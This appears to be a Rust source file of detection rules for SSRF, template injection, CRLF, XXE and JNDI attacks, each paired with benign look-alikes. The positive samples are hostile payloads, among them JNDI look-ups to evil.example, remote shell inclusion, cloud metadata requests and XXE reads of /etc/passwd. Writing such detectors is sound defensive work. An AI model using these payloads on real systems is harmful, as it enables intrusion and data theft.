//! Injection into everything that is neither SQL, HTML nor a shell.

super::rules! { SSRF ["ssrf", "CWE-918", "crs-934"];
    METADATA "ssrf-001" "cloud metadata address" Critical 1:
        "http://169.254.169.254/latest/meta-data/", "http%253A%252F%252Fmetadata.google.internal%252F",
        not "https://example.com/169.254-lake";
    INTERNAL "ssrf-002" "internal address" Critical 1:
        "http://127.0.0.1:22/", "http%253A%252F%252Flocalhost%252Fadmin",
        not "open http://localhost:3000 in your browser";
    OBSCURED "ssrf-003" "address in an odd notation" Critical 1:
        "http://2130706433/", "http%253A%252F%252F0x7f.1%252F",
        not "https://12345.example.com/";
    ODD_SCHEME "ssrf-004" "URL scheme for other protocols" Critical 1:
        "gopher://10.0.0.1:25/_x", "dict%253A%252F%252Flocalhost%253A11211",
        not "a gopher: // is a rodent";
    REMOTE_FILE "ssrf-005" "remote file inclusion" Error 1:
        "http://198.51.100.7/shell.php?", "http%253A%252F%252F198.51.100.7%252Fc99.txt%253F",
        not "https://example.com/notes.txt";
}
super::rules! { TEMPLATE ["ssti", "CWE-1336", "crs-934"];
    EXPRESSION "ssti-001" "template expression" Critical 1:
        "{{7*7}}", "%2524%257B7*7%257D",
        not "Dear {{name}}, your ${item} is ready";
    OBJECTS "ssti-002" "template reaching into objects" Critical 1:
        "{{config.items()}}", "%257B%257B''.__class__.__mro__%257D%257D",
        not "{{ user.name }} lives in {{ user.city }}";
    DIRECTIVE "ssti-003" "template directive" Critical 1:
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>", "%2523set($x%253D1)",
        not "#settings and <#1 fan>";
}
super::rules! { CRLF ["crlf", "CWE-113", "crs-921"];
    HEADER "crlf-001" "header injection" Critical 1:
        "x\r\nSet-Cookie: a=1", "x%250d%250aLocation:%2520http://evil.example",
        not "Dear all,\r\nPlease note: the location: Ubud";
    MAIL "crlf-002" "mail header injection" Critical 1:
        "a@example.com\nBcc: b@example.com", "a@example.com%250aCc:%2520b@example.com",
        not "Notes\nTo: the team";
    SPLIT "crlf-003" "response splitting" Critical 1:
        "x\r\n\r\nHTTP/1.1 200 OK", "x%250d%250aHTTP/1.1%2520200%2520OK",
        not "we speak\r\nHTTP/2 here";
}
super::rules! { XML ["xxe", "CWE-611", "crs-944"];
    ENTITY "xxe-001" "entity declaration" Critical 1:
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>", "%253C!ENTITY%2520%2525%2520a%2520'b'%253E",
        not "<!DOCTYPE html>";
    EXTERNAL "xxe-002" "external document type" Critical 1:
        "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">", "%253C!DOCTYPE%2520x%2520SYSTEM%2520'x'%253E",
        not "the doctype system is old";
    INCLUDE "xxe-003" "XInclude" Critical 1:
        "<xi:include href=\"file:///etc/passwd\"/>", "%253Cxi:include%2520href%253D'x'/%253E",
        not "an xi: include list";
    SSI "ssi-001" "server-side include" Critical 1:
        "<!--#exec cmd=\"ls\"-->", "%253C!--%2523include%2520file%253D'x'--%253E",
        not "<!-- # a comment -->";
}
super::rules! { JNDI ["jndi", "CWE-917", "crs-944"];
    LOOKUP "jndi-001" "JNDI look-up" Critical 1:
        "${jndi:ldap://evil.example/a}", "%2524%257Bjndi:rmi://evil.example/a%257D",
        not "jndi: a Java interface";
    NESTED "jndi-002" "look-up with nested obfuscation" Critical 1:
        "${${lower:j}ndi:ldap://x/a}", "%2524%257B%2524%257B::-j%257Dndi:x%257D",
        not "${lower} and ${upper}";
}
